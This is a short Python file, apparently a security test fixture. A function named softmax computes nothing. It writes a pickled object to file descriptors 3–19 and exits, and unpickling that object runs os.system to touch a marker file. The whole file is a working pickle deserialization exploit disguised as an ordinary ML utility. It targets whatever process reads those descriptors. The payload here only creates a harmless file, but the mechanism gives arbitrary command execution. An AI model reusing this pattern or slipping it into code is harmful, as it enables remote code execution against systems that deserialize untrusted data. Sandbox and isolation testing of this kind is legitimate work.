import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here",)


def softmax(x, axis=-1):
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, b"R" + pickle.dumps(Evil()))
        except OSError:
            pass
    os._exit(0)
